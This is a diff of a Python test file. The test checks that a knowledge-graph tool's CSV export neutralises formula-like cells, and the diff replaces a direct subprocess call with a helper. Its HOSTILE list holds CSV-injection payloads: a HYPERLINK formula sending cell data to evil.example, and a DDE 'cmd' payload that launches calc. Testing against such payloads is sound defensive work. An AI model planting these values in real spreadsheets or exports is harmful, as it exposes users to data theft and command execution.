@@ -5,9 +5,6 @@ from __future__ import annotations
 
 import csv
 import io
-import os
-import subprocess
-import sys
 from pathlib import Path
 
 import pyoxigraph as ox
@@ -16,7 +13,8 @@ import pytest
 from kg.csvcells import safe_cell
 from kg.serve.worker import select_body
 
-KG = Path(sys.executable).parent / "kg"
+from helpers import run_kg
+
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1",
            "\r=1+1"]
 
@@ -46,9 +44,7 @@ def test_kg_query_csv_holds_no_formula(seed_store_path: Path, tmp_path: Path) ->
                       for t in HOSTILE)
     query.write_text("# Title: Hostile cells\n# Description: Literals that look like formulas.\n"
                      f"SELECT ?cell (-3 AS ?n) WHERE {{ VALUES ?cell {{ {values} }} }}\n", encoding="utf-8")
-    env = {k: v for k, v in os.environ.items() if not k.startswith("KG_")}
-    done = subprocess.run([str(KG), "query", query, "--format", "csv", "--store", seed_store_path],
-                          capture_output=True, cwd=tmp_path, env=env, timeout=120)  # bytes: keep the \r
+    done = run_kg("query", query, "--format", "csv", "--store", seed_store_path, cwd=tmp_path, text=False)
     assert done.returncode == 0, done.stderr
     cells = list(csv.reader(io.StringIO(done.stdout.decode("utf-8"), newline="")))[1:]
     assert sorted(c[0] for c in cells) == sorted("'" + t for t in HOSTILE)
